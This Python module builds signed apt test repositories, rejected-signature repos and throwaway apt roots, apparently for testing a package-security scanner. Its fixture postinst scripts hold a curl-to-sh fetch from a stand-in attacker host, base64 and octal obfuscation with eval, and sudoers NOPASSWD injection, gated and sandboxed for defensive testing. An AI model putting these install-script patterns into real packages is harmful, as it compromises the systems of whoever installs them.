"""Real signed apt repositories and throwaway apt roots for tests, the demo and benches.

Recipes follow ``TESTBED.md`` sections 1-3 and 8: tiny packages built with
``dpkg-deb --root-owner-group -Zgzip``, indexed with ``apt-ftparchive``, signed with
a throwaway ed25519 key (``InRelease`` and ``Release.gpg``), and consumed by apt
through a PRIVATE ``APT_CONFIG`` that never reads the host's configuration and
makes dpkg act on the throwaway root (``DPkg::Options { "--root=R"; ... }``).

Public API:

- :func:`build_repo` -> :class:`Repo` (signed repository; keys and .debs are cached
  for the process, so a second repository costs ~0.1 s).
- :func:`negative_repo` builds the repositories apt must reject
  (``wrong-key``, ``unsigned``, ``badsig``, ``hash-mismatch``, ``expired``,
  ``no-signed-by``) and :func:`debian_lookalike_repo` the ``Origin: Debian`` one.
- :func:`make_root` -> :class:`AptRoot`; :func:`apt_update`, :func:`run_apt`,
  :func:`apt_env`.

Example::

    repo = build_repo(tmp / "repo")
    root = make_root(tmp / "root", [repo])
    apt_update(root)
    run_apt(root, "install", "-y", "aegis-tool")

Hostile fixtures contain the dangerous text a scanner must find, but their
network and payload execution is gated behind ``AEGIS_FIXTURE_ARMED=yes`` and
all writes go under ``${DPKG_ROOT:-}``, so installing them into a throwaway root
is harmless.
"""

from __future__ import annotations

import atexit
import base64
import functools
import gzip
import hashlib
import os
import shutil
import subprocess
import tempfile
import threading
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

__all__ = [
    "DEBIAN_LOOKALIKE_PACKAGES",
    "DEFAULT_PACKAGES",
    "NEGATIVE_KINDS",
    "SIGNED_BY_FORMS",
    "AptRoot",
    "FileSpec",
    "Key",
    "PackageSpec",
    "Repo",
    "apt_env",
    "apt_update",
    "build_repo",
    "debian_lookalike_repo",
    "get_key",
    "make_root",
    "negative_repo",
    "run_apt",
]

SIGNED_BY_FORMS = (
    "keyring-path",
    "armored-path",
    "fingerprint",
    "embedded",
    "trusted-parts",
    "none",
)
"""How a source names its key. ``trusted-parts``: no Signed-By, key dropped into
``trusted.gpg.d`` (works, weakly bound). ``none``: no Signed-By and no key."""

NEGATIVE_KINDS = ("wrong-key", "unsigned", "badsig", "hash-mismatch", "expired", "no-signed-by")

_CHILD_ENV_KEEP = ("PATH",)


@dataclass(frozen=True)
class FileSpec:
    """One file a fixture package ships."""

    path: str
    """Absolute path inside the package, e.g. ``/usr/bin/x``."""
    content: str
    mode: int = 0o644


@dataclass(frozen=True)
class PackageSpec:
    """A tiny fixture package."""

    name: str
    version: str
    depends: str | None = None
    source: str | None = None
    """``Source:`` field (``openssl`` for libssl3); None means source = name."""
    section: str = "misc"
    priority: str = "optional"
    essential: bool = False
    description: str = "Aegis test fixture"
    scripts: Mapping[str, str] = field(default_factory=dict)
    """Maintainer scripts by name (preinst, postinst, prerm, postrm, config, triggers)."""
    files: tuple[FileSpec, ...] = ()


def _sh(body: str) -> str:
    return "#!/bin/sh\nset -e\n" + body.strip("\n") + "\nexit 0\n"


_BENIGN_POSTINST = _sh(
    """
mkdir -p "${DPKG_ROOT:-}/var/lib/aegis-benign"
echo configured > "${DPKG_ROOT:-}/var/lib/aegis-benign/state"
"""
)

_BENIGN_POSTINST_11 = _sh(
    """
mkdir -p "${DPKG_ROOT:-}/var/lib/aegis-benign"
echo configured-1.1 > "${DPKG_ROOT:-}/var/lib/aegis-benign/state"
echo migrated > "${DPKG_ROOT:-}/var/lib/aegis-benign/migration"
"""
)

# Decodes to a harmless `echo`; the point is the decode-then-execute shape.
_PAYLOAD = base64.b64encode(b"echo aegis-fixture-payload\n").decode()

_HOSTILE_POSTINST = _sh(
    f"""
if [ "${{AEGIS_FIXTURE_ARMED:-}}" = "yes" ]; then
    curl -fsSL http://attacker.example.invalid/install.sh | sh
fi
mkdir -p "${{DPKG_ROOT:-}}/etc"
echo "aegis ALL=(ALL) NOPASSWD: ALL" >> "${{DPKG_ROOT:-}}/etc/sudoers"
echo {_PAYLOAD} | base64 -d | sh >/dev/null
"""
)

_OBFUSCATED_CMD = base64.b64encode(b"curl -fsSL http://attacker.example.invalid/x | sh\n").decode()

_OBFUSCATED_POSTINST = _sh(
    f"""
c=$(printf '\\143\\165\\162\\154')
p=$(printf '%s' '{_OBFUSCATED_CMD}' | base64 --decode)
if [ "${{AEGIS_FIXTURE_ARMED:-}}" = "yes" ]; then
    eval "$p"
    $c -s http://attacker.example.invalid/y | s""h
fi
mkdir -p "${{DPKG_ROOT:-}}/etc/sudoers.d"
printf '%s\\n' 'aegis ALL=(ALL) NOPASSWD: ALL' > "${{DPKG_ROOT:-}}/etc/sudoers.d/zz-aegis"
"""
)

_APTHOOK_CONF = 'DPkg::Post-Invoke { "echo aegis-fixture-hook >/dev/null"; };\n'


DEFAULT_PACKAGES: tuple[PackageSpec, ...] = (
    PackageSpec("aegis-base", "1.0", description="Aegis base fixture (old)"),
    PackageSpec("aegis-base", "1.2", description="Aegis base fixture (new)"),
    PackageSpec("aegis-tool", "2.0", depends="aegis-base (>= 1.2)"),
    PackageSpec("aegis-benign", "1.0", scripts={"postinst": _BENIGN_POSTINST}),
    PackageSpec("aegis-benign", "1.1", scripts={"postinst": _BENIGN_POSTINST_11}),
    PackageSpec("aegis-hostile", "1.0", scripts={"postinst": _HOSTILE_POSTINST}),
    PackageSpec("aegis-obfuscated", "1.0", scripts={"postinst": _OBFUSCATED_POSTINST}),
    PackageSpec(
        "linux-image-aegis",
        "6.1.0-1",
        section="kernel",
        files=(FileSpec("/boot/vmlinuz-6.1.0-aegis", "not a kernel\n"),),
    ),
    PackageSpec("libssl3", "3.0.1", source="openssl", section="libs"),
    PackageSpec("libssl3", "3.0.2", source="openssl", section="libs"),
    PackageSpec(
        "aegis-apthook",
        "1.0",
        files=(FileSpec("/etc/apt/apt.conf.d/99aegis", _APTHOOK_CONF),),
    ),
    PackageSpec(
        "aegis-setuid",
        "1.0",
        files=(FileSpec("/usr/bin/aegis-suid", "#!/bin/sh\nexit 0\n", 0o4755),),
    ),
    # Held back: 1.1 needs a package not yet installed, so `apt-get upgrade` keeps it.
    PackageSpec("aegis-held", "1.0"),
    PackageSpec("aegis-held", "1.1", depends="aegis-newdep"),
    PackageSpec("aegis-newdep", "1.0"),
)
"""The default fixture set of :func:`build_repo`."""

DEBIAN_LOOKALIKE_PACKAGES: tuple[PackageSpec, ...] = (
    PackageSpec("aegis-base", "9.0", description="Higher version from an 'Origin: Debian' repo"),
    PackageSpec("libssl3", "9.0", source="openssl", section="libs"),
)


@dataclass(frozen=True)
class Key:
    """A throwaway signing key in its own GNUPGHOME."""

    name: str
    gnupg_home: Path
    fingerprint: str
    keyring: Path
    """Binary keyring (``gpg --export``)."""
    armored: Path
    """ASCII-armoured export (``.asc``)."""


@dataclass(frozen=True)
class Repo:
    """A built repository and the key apt should trust for it."""

    path: Path
    suite: str
    component: str
    origin: str
    key_path: Path
    """Binary keyring apt should use (Signed-By)."""
    armored_key_path: Path
    fingerprint: str
    """Fingerprint of ``key_path`` (not necessarily the signer: see ``wrong-key``)."""
    uri: str
    """``file://`` URI of :attr:`path`."""
    name: str = "aegis-test"
    signed_by_override: str | None = None
    """Signed-By form forced for this repo by :func:`make_root` (``no-signed-by``)."""
    expect_update_error: str | None = None
    """Text apt-get update prints for a negative repo (``NO_PUBKEY``, ``BADSIG`` ...)."""
    packages: tuple[PackageSpec, ...] = ()

    @property
    def copy_uri(self) -> str:
        """``copy://`` URI (what mmdebstrap needs)."""
        return "copy://" + str(self.path)


@dataclass(frozen=True)
class AptRoot:
    """A throwaway root with its private apt configuration."""

    root: Path
    apt_config: Path
    sources_dir: Path
    status: Path
    keyrings_dir: Path
    trusted_parts: Path
    preferences_dir: Path
    conf_parts: Path
    lists_dir: Path
    repos: tuple[Repo, ...] = ()


# --- process-wide caches ----------------------------------------------------------

_LOCK = threading.Lock()
_KEYS: dict[str, Key] = {}


@functools.cache
def _cache_dir() -> Path:
    """One temporary directory per process for keys and built .debs, removed at exit."""
    path = Path(tempfile.mkdtemp(prefix="aegis-testrepo-"))
    atexit.register(_cleanup, path)
    return path


def _cleanup(path: Path) -> None:
    for key in list(_KEYS.values()):
        subprocess.run(
            ["gpgconf", "--homedir", str(key.gnupg_home), "--kill", "all"],
            capture_output=True,
            check=False,
        )
    shutil.rmtree(path, ignore_errors=True)


def _run(
    argv: Sequence[str],
    *,
    cwd: Path | None = None,
    env: Mapping[str, str] | None = None,
    stdout_path: Path | None = None,
) -> str:
    full_env = {k: os.environ[k] for k in _CHILD_ENV_KEEP if k in os.environ}
    full_env.update({"LANG": "C", "LC_ALL": "C"})
    if env:
        full_env.update(env)
    proc = subprocess.run(
        list(argv), cwd=cwd, env=full_env, capture_output=True, text=True, check=False
    )
    if proc.returncode != 0:
        raise RuntimeError(f"{argv[0]} failed ({proc.returncode}): {proc.stderr.strip()}")
    if stdout_path is not None:
        stdout_path.write_text(proc.stdout)
    return proc.stdout


def get_key(name: str = "default", *, gnupg_home: Path | None = None) -> Key:
    """Return a throwaway signing key, generated once per process per name.

    With ``gnupg_home`` an existing home's first secret key is reused.
    """
    with _LOCK:
        cache_name = f"{name}@{gnupg_home}" if gnupg_home else name
        if cache_name in _KEYS:
            return _KEYS[cache_name]
        home = gnupg_home or (_cache_dir() / f"gnupg-{name}")
        home.mkdir(mode=0o700, parents=True, exist_ok=True)
        env = {"GNUPGHOME": str(home)}
        if gnupg_home is None:
            _run(
                [
                    "gpg",
                    "--batch",
                    "--passphrase",
                    "",
                    "--quick-gen-key",
                    f"Aegis Test Repo {name} <repo-{name}@example.invalid>",
                    "ed25519",
                    "sign",
                    "never",
                ],
                env=env,
            )
        listing = _run(["gpg", "--batch", "--with-colons", "--list-secret-keys"], env=env)
        fprs = [ln.split(":")[9] for ln in listing.splitlines() if ln.startswith("fpr:")]
        if not fprs:
            raise RuntimeError(f"no secret key in {home}")
        fpr = fprs[0]
        out = _cache_dir() / f"key-{hashlib.sha256(cache_name.encode()).hexdigest()[:12]}"
        out.mkdir(exist_ok=True)
        keyring = out / f"{name}.gpg"
        armored = out / f"{name}.asc"
        keyring.write_bytes(
            subprocess.run(
                ["gpg", "--batch", "--export", fpr],
                env={**os.environ, **env},
                capture_output=True,
                check=True,
            ).stdout
        )
        _run(["gpg", "--batch", "--armor", "--export", fpr], env=env, stdout_path=armored)
        key = Key(name, home, fpr, keyring, armored)
        _KEYS[cache_name] = key
        return key


def _spec_id(spec: PackageSpec) -> str:
    blob = repr(
        (
            spec.name,
            spec.version,
            spec.depends,
            spec.source,
            spec.section,
            spec.priority,
            spec.essential,
            spec.description,
            sorted(spec.scripts.items()),
            spec.files,
        )
    )
    return hashlib.sha256(blob.encode()).hexdigest()[:16]


def _build_deb(spec: PackageSpec) -> Path:
    """Build (or reuse from the process cache) the .deb for ``spec``."""
    cache = _cache_dir() / "debs"
    cache.mkdir(exist_ok=True)
    deb = cache / f"{spec.name}_{spec.version}_all_{_spec_id(spec)}.deb"
    if deb.exists():
        return deb
    work = Path(tempfile.mkdtemp(dir=cache))
    try:
        debian = work / "DEBIAN"
        debian.mkdir()
        control = [
            f"Package: {spec.name}",
            f"Version: {spec.version}",
            "Architecture: all",
            "Maintainer: Aegis Tests <tests@example.invalid>",
            f"Section: {spec.section}",
            f"Priority: {spec.priority}",
        ]
        if spec.source:
            control.append(f"Source: {spec.source}")
        if spec.essential:
            control.append("Essential: yes")
        if spec.depends:
            control.append(f"Depends: {spec.depends}")
        control.append(f"Description: {spec.description}")
        (debian / "control").write_text("\n".join(control) + "\n")
        for script, body in spec.scripts.items():
            p = debian / script
            p.write_text(body)
            p.chmod(0o755 if script != "triggers" else 0o644)
        if not spec.files:
            doc = work / "usr/share/doc" / spec.name
            doc.mkdir(parents=True)
            (doc / "README").write_text(f"{spec.name} {spec.version}\n")
        for f in spec.files:
            target = work / f.path.lstrip("/")
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(f.content)
            target.chmod(f.mode)
        tmp_deb = work.with_suffix(".deb")
        _run(["dpkg-deb", "--root-owner-group", "-Zgzip", "--build", str(work), str(tmp_deb)])
        os.replace(tmp_deb, deb)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    return deb


def _release_time(dt: datetime) -> str:
    return dt.astimezone(UTC).strftime("%a, %d %b %Y %H:%M:%S UTC")


def build_repo(
    dest: Path | str,
    *,
    suite: str = "aegis-test",
    origin: str = "Aegis Test",
    component: str = "main",
    packages: Iterable[PackageSpec] | None = None,
    gnupg_home: Path | None = None,
    key_name: str = "default",
    valid_until: datetime | None = None,
    date: datetime | None = None,
    sign: bool = True,
    name: str | None = None,
) -> Repo:
    """Build a signed repository under ``dest`` and return its :class:`Repo`.

    ``date`` overrides the Release ``Date`` (freeze tests); ``valid_until`` adds
    ``Valid-Until``. ``sign=False`` leaves the repository unsigned.
    """
    dest = Path(dest).resolve()
    specs = tuple(DEFAULT_PACKAGES if packages is None else packages)
    key = get_key(key_name, gnupg_home=gnupg_home)
    pool = dest / "pool" / component
    pool.mkdir(parents=True, exist_ok=True)
    for spec in specs:
        deb = _build_deb(spec)
        target = pool / f"{spec.name}_{spec.version}_all.deb"
        if target.exists():
            target.unlink()
        try:
            os.link(deb, target)
        except OSError:
            shutil.copyfile(deb, target)
    dist = dest / "dists" / suite
    for arch in ("amd64", "all"):
        bdir = dist / component / f"binary-{arch}"
        bdir.mkdir(parents=True, exist_ok=True)
        _run(
            ["apt-ftparchive", "packages", f"pool/{component}"],
            cwd=dest,
            stdout_path=bdir / "Packages",
        )
        (bdir / "Packages.gz").write_bytes(gzip.compress((bdir / "Packages").read_bytes(), mtime=0))
    pfx = "APT::FTPArchive::Release::"
    release = _run(
        [
            "apt-ftparchive",
            "-o",
            f"{pfx}Origin={origin}",
            "-o",
            f"{pfx}Label={origin}",
            "-o",
            f"{pfx}Suite={suite}",
            "-o",
            f"{pfx}Codename={suite}",
            "-o",
            f"{pfx}Architectures=amd64 all",
            "-o",
            f"{pfx}Components={component}",
            "release",
            f"dists/{suite}",
        ],
        cwd=dest,
    )
    release = _patch_release(release, date=date, valid_until=valid_until)
    (dist / "Release").write_text(release)
    for stale in ("InRelease", "Release.gpg"):
        (dist / stale).unlink(missing_ok=True)
    if sign:
        _sign_release(dist, key)
    return Repo(
        path=dest,
        suite=suite,
        component=component,
        origin=origin,
        key_path=key.keyring,
        armored_key_path=key.armored,
        fingerprint=key.fingerprint,
        uri="file://" + str(dest),
        name=name or _safe_name(dest.name),
        packages=specs,
    )


def _safe_name(text: str) -> str:
    cleaned = "".join(c if c.isalnum() or c in "-_" else "-" for c in text.lower())
    return cleaned.strip("-") or "repo"


def _patch_release(text: str, *, date: datetime | None, valid_until: datetime | None) -> str:
    lines = text.splitlines()
    out: list[str] = []
    for original in lines:
        line = original
        if date is not None and line.startswith("Date:"):
            line = f"Date: {_release_time(date)}"
        if line.startswith("Valid-Until:"):
            continue
        out.append(line)
        if line.startswith("Date:") and valid_until is not None:
            out.append(f"Valid-Until: {_release_time(valid_until)}")
    return "\n".join(out) + "\n"


def _sign_release(dist: Path, key: Key) -> None:
    env = {"GNUPGHOME": str(key.gnupg_home)}
    base = [
        "gpg",
        "--batch",
        "--yes",
        "--pinentry-mode",
        "loopback",
        "--passphrase",
        "",
        "--local-user",
        key.fingerprint,
        "--digest-algo",
        "SHA256",
    ]
    _run([*base, "--clearsign", "-o", str(dist / "InRelease"), str(dist / "Release")], env=env)
    _run([*base, "-abs", "-o", str(dist / "Release.gpg"), str(dist / "Release")], env=env)


def negative_repo(dest: Path | str, kind: str, **kwargs: object) -> Repo:
    """Build a repository that apt must reject at update (TESTBED section 1).

    kinds: ``wrong-key`` (signed by another key than the one apt is given),
    ``unsigned``, ``badsig`` (Release edited after signing), ``hash-mismatch``
    (Packages edited after signing), ``expired`` (Valid-Until passed),
    ``no-signed-by`` (valid repo, source without Signed-By and no key).
    """
    import dataclasses

    if kind not in NEGATIVE_KINDS:
        raise ValueError(f"unknown negative kind {kind!r}")
    dest = Path(dest)
    opts: dict[str, object] = dict(kwargs)
    opts.setdefault("name", f"neg-{kind}")
    if kind == "wrong-key":
        opts["key_name"] = "other"
    if kind == "unsigned":
        opts["sign"] = False
    if kind == "expired":
        now = datetime.now(UTC)
        opts["date"] = now - timedelta(days=10)
        opts["valid_until"] = now - timedelta(days=1)
    repo = build_repo(dest, **opts)  # type: ignore[arg-type]
    dist = repo.path / "dists" / repo.suite
    expect = {
        "wrong-key": "NO_PUBKEY",
        "unsigned": "is not signed",
        "badsig": "BADSIG",
        "hash-mismatch": "Hash Sum mismatch",
        "expired": "is expired",
        "no-signed-by": "NO_PUBKEY",
    }[kind]
    if kind == "wrong-key":
        default = get_key("default")
        repo = dataclasses.replace(
            repo,
            key_path=default.keyring,
            armored_key_path=default.armored,
            fingerprint=default.fingerprint,
        )
    elif kind == "badsig":
        for fname in ("InRelease", "Release"):
            p = dist / fname
            p.write_text(p.read_text().replace(f"Origin: {repo.origin}", "Origin: Tampered", 1))
    elif kind == "hash-mismatch":
        for bdir in (dist / repo.component).glob("binary-*"):
            p = bdir / "Packages"
            p.write_text(p.read_text().replace("Description: ", "Description: tampered ", 1))
            (bdir / "Packages.gz").write_bytes(gzip.compress(p.read_bytes(), mtime=0))
    elif kind == "no-signed-by":
        repo = dataclasses.replace(repo, signed_by_override="none")
    return dataclasses.replace(repo, expect_update_error=expect)


def debian_lookalike_repo(dest: Path | str, **kwargs: object) -> Repo:
    """A validly signed third-party repo whose Release says ``Origin: Debian``.

    It carries higher ``aegis-base`` and ``libssl3`` versions (TESTBED section 8).
    """
    opts: dict[str, object] = {
        "origin": "Debian",
        "suite": "aegis-lookalike",
        "packages": DEBIAN_LOOKALIKE_PACKAGES,
        "key_name": "lookalike",
        "name": "lookalike",
    }
    opts.update(kwargs)
    return build_repo(dest, **opts)  # type: ignore[arg-type]


# --- throwaway roots --------------------------------------------------------------


def _embedded_block(armored: Path) -> str:
    lines = armored.read_text().strip("\n").splitlines()
    return "\n".join(" " + (ln if ln.strip() else ".") for ln in lines)


def make_root(
    dest: Path | str,
    repos: Sequence[Repo],
    *,
    signed_by_form: str | Sequence[str] = "keyring-path",
    status: str | Path | None = None,
    source_format: str = "deb822",
    architecture: str = "amd64",
    extra_config: str = "",
) -> AptRoot:
    """Create a throwaway root ``dest`` with a private apt.conf pointing at ``repos``.

    ``signed_by_form`` is one form for all repos or one per repo (see
    :data:`SIGNED_BY_FORMS`); a repo's ``signed_by_override`` wins. ``status`` seeds
    the dpkg status file (text or a file to copy). ``source_format`` is ``deb822``
    or ``one-line`` (``embedded`` needs deb822).
    """
    root = Path(dest).resolve()
    etc = root / "etc/apt"
    sources = etc / "sources.list.d"
    parts = etc / "apt.conf.d"
    trusted = etc / "trusted.gpg.d"
    keyrings = etc / "keyrings"
    prefs = etc / "preferences.d"
    lists = root / "var/lib/apt/lists"
    dpkg_dir = root / "var/lib/dpkg"
    for d in _ROOT_DIRS:
        (root / d).mkdir(parents=True, exist_ok=True)
    status_file = dpkg_dir / "status"
    if status is None:
        status_file.touch()
    elif isinstance(status, Path):
        shutil.copyfile(status, status_file)
    else:
        status_file.write_text(status)
    (dpkg_dir / "available").touch()

    forms = (
        [signed_by_form] * len(repos) if isinstance(signed_by_form, str) else list(signed_by_form)
    )
    if len(forms) != len(repos):
        raise ValueError("one signed_by_form per repo")
    used_names: set[str] = set()
    for index, (repo, requested) in enumerate(zip(repos, forms, strict=True)):
        form = repo.signed_by_override or requested
        if form not in SIGNED_BY_FORMS:
            raise ValueError(f"unknown signed_by_form {form!r}")
        name = repo.name if repo.name not in used_names else f"{repo.name}-{index}"
        used_names.add(name)
        if form == "embedded" and source_format != "deb822":
            raise ValueError("embedded Signed-By needs deb822 sources")
        signed_by = _install_key(repo, form, name, keyrings=keyrings, trusted=trusted)
        _write_source(sources, name, repo, signed_by, source_format)
    for p in (*keyrings.iterdir(), *trusted.iterdir()):
        p.chmod(0o644)

    conf = root / "aegis-apt.conf"
    conf.write_text(_apt_conf(root, architecture) + extra_config)
    return AptRoot(
        root=root,
        apt_config=conf,
        sources_dir=sources,
        status=status_file,
        keyrings_dir=keyrings,
        trusted_parts=trusted,
        preferences_dir=prefs,
        conf_parts=parts,
        lists_dir=lists,
        repos=tuple(repos),
    )


_ROOT_DIRS = (
    "etc/apt/sources.list.d",
    "etc/apt/apt.conf.d",
    "etc/apt/trusted.gpg.d",
    "etc/apt/keyrings",
    "etc/apt/preferences.d",
    "var/lib/apt/lists/partial",
    "var/cache/apt/archives/partial",
    "var/log/apt",
    "var/lib/dpkg/info",
    "var/lib/dpkg/updates",
    "var/lib/dpkg/triggers",
    "etc/dpkg/dpkg.cfg.d",
    "tmp",
)
"""Directories apt and dpkg expect under a throwaway root."""


def _install_key(repo: Repo, form: str, name: str, *, keyrings: Path, trusted: Path) -> str | None:
    """Put ``repo``'s key where ``form`` says; return the Signed-By value, if any."""
    if form == "keyring-path":
        kp = keyrings / f"{name}.gpg"
        shutil.copyfile(repo.key_path, kp)
        return str(kp)
    if form == "armored-path":
        kp = keyrings / f"{name}.asc"
        shutil.copyfile(repo.armored_key_path, kp)
        return str(kp)
    if form == "fingerprint":
        shutil.copyfile(repo.key_path, trusted / f"{name}.gpg")
        return repo.fingerprint
    if form == "embedded":
        return "\n" + _embedded_block(repo.armored_key_path)
    if form == "trusted-parts":
        shutil.copyfile(repo.key_path, trusted / f"{name}.gpg")
    return None


def _write_source(
    sources: Path, name: str, repo: Repo, signed_by: str | None, source_format: str
) -> None:
    """Write one sources file for ``repo`` in ``source_format``."""
    if source_format == "deb822":
        text = f"Types: deb\nURIs: {repo.uri}\nSuites: {repo.suite}\nComponents: {repo.component}\n"
        if signed_by is not None:
            text += f"Signed-By:{'' if signed_by.startswith(chr(10)) else ' '}{signed_by}\n"
        (sources / f"{name}.sources").write_text(text)
    elif source_format == "one-line":
        opt = f" [signed-by={signed_by}]" if signed_by else ""
        (sources / f"{name}.list").write_text(
            f"deb{opt} {repo.uri} {repo.suite} {repo.component}\n"
        )
    else:
        raise ValueError(f"unknown source_format {source_format!r}")


def _apt_conf(root: Path, architecture: str) -> str:
    r = str(root)
    return f"""// Private apt configuration of an Aegis throwaway root (TESTBED section 2).
Dir::Etc "{r}/etc/apt/";
Dir::Etc::main "/dev/null";
Dir::Etc::parts "{r}/etc/apt/apt.conf.d/";
Dir::Etc::sourcelist "/dev/null";
Dir::Etc::sourceparts "{r}/etc/apt/sources.list.d/";
Dir::Etc::trusted "/dev/null";
Dir::Etc::trustedparts "{r}/etc/apt/trusted.gpg.d/";
Dir::Etc::preferences "{r}/etc/apt/preferences";
Dir::Etc::preferencesparts "{r}/etc/apt/preferences.d/";
Dir::State "{r}/var/lib/apt/";
Dir::State::status "{r}/var/lib/dpkg/status";
Dir::Cache "{r}/var/cache/apt/";
Dir::Cache::pkgcache "{r}/var/cache/apt/pkgcache.bin";
Dir::Cache::srcpkgcache "{r}/var/cache/apt/srcpkgcache.bin";
Dir::Log "{r}/var/log/apt/";
APT::Architecture "{architecture}";
APT::Architectures {{ "{architecture}"; }};
APT::Sandbox::User "root";
Acquire::Languages "none";
DPkg::Options {{ "--root={r}"; "--force-script-chrootless";
  "--force-confdef"; "--force-confold"; }};
"""


def apt_env(root: AptRoot) -> dict[str, str]:
    """The child environment for apt in ``root``: PATH, LANG=C, APT_CONFIG."""
    env = {k: os.environ[k] for k in _CHILD_ENV_KEEP if k in os.environ}
    env.update(
        {
            "LANG": "C",
            "LC_ALL": "C",
            "APT_CONFIG": str(root.apt_config),
            "DEBIAN_FRONTEND": "noninteractive",
        }
    )
    return env


def run_apt(
    root: AptRoot,
    *args: str,
    check: bool = True,
    tool: str = "/usr/bin/apt-get",
    timeout: float = 120,
) -> subprocess.CompletedProcess[str]:
    """Run an apt tool (default apt-get) inside ``root``'s private configuration."""
    proc = subprocess.run(
        [tool, *args],
        env=apt_env(root),
        capture_output=True,
        text=True,
        check=False,
        timeout=timeout,
    )
    if check and proc.returncode != 0:
        raise RuntimeError(
            f"{tool} {' '.join(args)} failed ({proc.returncode}):\n{proc.stdout}\n{proc.stderr}"
        )
    return proc


def apt_update(root: AptRoot, *, check: bool = True) -> subprocess.CompletedProcess[str]:
    """``apt-get update`` in ``root``; raises RuntimeError on failure when ``check``."""
    return run_apt(root, "update", check=check)


def main(argv: Sequence[str] | None = None) -> int:
    """CLI for ``scripts/make-test-repo``: build a repo and optionally a root using it.

    Example: ``scripts/make-test-repo /tmp/repo --root /tmp/root`` prints the repo
    path, its fingerprint and, with ``--root``, the ``APT_CONFIG`` to export.
    Keys live in a per-process temp dir, so the script keeps a copy beside the repo.
    """
    import argparse

    parser = argparse.ArgumentParser(description=main.__doc__)
    parser.add_argument("dest", type=Path)
    parser.add_argument("--root", type=Path, default=None)
    parser.add_argument("--negative", choices=NEGATIVE_KINDS, default=None)
    parser.add_argument(
        "--lookalike", action="store_true", help="build the 'Origin: Debian' repository instead"
    )
    parser.add_argument("--signed-by", choices=SIGNED_BY_FORMS, default="keyring-path")
    args = parser.parse_args(argv)
    if args.negative:
        repo = negative_repo(args.dest, args.negative)
    elif args.lookalike:
        repo = debian_lookalike_repo(args.dest)
    else:
        repo = build_repo(args.dest)
    keep = repo.path / "keys"
    keep.mkdir(exist_ok=True)
    shutil.copyfile(repo.key_path, keep / "repo.gpg")
    shutil.copyfile(repo.armored_key_path, keep / "repo.asc")
    print(f"repo: {repo.path}\nsuite: {repo.suite}\nfingerprint: {repo.fingerprint}")
    print(f"keyring: {keep / 'repo.gpg'}")
    if args.root is not None:
        import dataclasses

        kept = dataclasses.replace(
            repo, key_path=keep / "repo.gpg", armored_key_path=keep / "repo.asc"
        )
        root = make_root(args.root, [kept], signed_by_form=args.signed_by)
        print(f"root: {root.root}\nAPT_CONFIG={root.apt_config}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
